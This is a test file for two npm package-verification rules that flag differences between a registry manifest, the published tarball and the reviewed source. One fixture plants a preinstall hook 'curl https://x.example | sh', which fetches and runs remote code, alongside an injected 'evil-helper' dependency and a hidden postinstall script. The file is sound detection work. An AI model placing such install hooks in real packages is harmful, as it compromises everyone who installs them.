import { manifestConfusion } from "../../../src/rules/package-verification/manifest-confusion.js";
import { manifestMismatch } from "../../../src/rules/package-verification/manifest-mismatch.js";
import { ruleTest } from "../../helpers/rule-test.js";
import { pkg, publishedFacts } from "../../helpers/published.js";
import { built, manifestFields, source } from "./fixtures.js";

const published = JSON.parse(built["package.json"]!) as Record<string, unknown>;
const clean = await publishedFacts({ source, published: built });

ruleTest(manifestConfusion, {
  fires: [
    {
      name: "the registry manifest carries a dependency the tarball does not",
      files: source,
      facts: await publishedFacts({ source, published: built, registryManifest: { ...published, dependencies: { ...manifestFields.dependencies, "evil-helper": "^1.0.0" } } }),
      count: 1,
      severity: "critical",
      expect: ([f]) => {
        expect(f!.evidence).toBe("dependencies.evil-helper");
        expect(f!.message).toContain('the registry manifest has "^1.0.0", the tarball\'s package.json has none');
      },
    },
    {
      name: "the tarball hides an install hook the registry does not show",
      files: source,
      facts: await publishedFacts({
        source,
        published: { ...built, "package.json": pkg({ ...manifestFields, scripts: { ...manifestFields.scripts, postinstall: "node dist/x.js" } }) },
        registryManifest: published,
      }),
      count: 1,
      expect: ([f]) => expect(f!.evidence).toBe("scripts.postinstall"),
    },
    {
      name: "name and version differ",
      files: source,
      facts: await publishedFacts({ source, published: built, registryManifest: { ...published, name: "demo-mcp", version: "1.0.0", bin: { other: "dist/index.js" } } }),
      expect: (findings) => expect(findings.map((f) => f.evidence)).toEqual(["bin.demo-mcp", "bin.other"]),
    },
  ],
  quiet: [
    { name: "registry manifest generated from the tarball's package.json", files: source, facts: clean },
    {
      name: "npm's normalisation: bin as a ./ string, scripts.install from binding.gyp, node_modules/.bin paths",
      files: source,
      facts: await publishedFacts({
        source,
        published: {
          ...built,
          "binding.gyp": "{}\n",
          "package.json": pkg({ bin: "./dist/index.js", files: ["dist", "binding.gyp"], scripts: { build: "node_modules/.bin/tsc" } }),
        },
        registryManifest: {
          name: "demo-mcp",
          version: "1.0.0",
          bin: { "demo-mcp": "dist/index.js" },
          scripts: { build: "tsc", install: "node-gyp rebuild" },
          gypfile: true,
          _id: "demo-mcp@1.0.0",
        },
      }),
    },
  ],
});

ruleTest(manifestMismatch, {
  fires: [
    {
      name: "an install hook in the tarball that the source does not have",
      files: source,
      facts: await publishedFacts({
        source,
        published: { ...built, "package.json": pkg({ ...manifestFields, scripts: { ...manifestFields.scripts, preinstall: "curl https://x.example | sh" } }) },
      }),
      count: 1,
      severity: "critical",
      expect: ([f]) => {
        expect(f!.evidence).toBe("scripts.preinstall");
        expect(f!.message).toContain("not in the reviewed source");
        expect(f!.location?.path).toBe("package.json");
      },
    },
    {
      name: "a dependency added at release",
      files: source,
      facts: await publishedFacts({ source, published: { ...built, "package.json": pkg({ ...manifestFields, dependencies: { ...manifestFields.dependencies, "left-pad": "1.3.0" } }) } }),
      count: 1,
      expect: ([f]) => expect(f!.evidence).toBe("dependencies.left-pad"),
    },
  ],
  quiet: [
    { name: "the tarball's package.json is the source's", files: source, facts: clean },
    {
      name: "workspace: specs rewritten by the publisher, and bin spelt another way",
      files: source,
      facts: await publishedFacts({
        source: { ...source, "package.json": pkg({ ...manifestFields, bin: { "demo-mcp": "./dist/index.js" }, dependencies: { "@modelcontextprotocol/sdk": "workspace:^" } }) },
        published: built,
      }),
    },
  ],
});
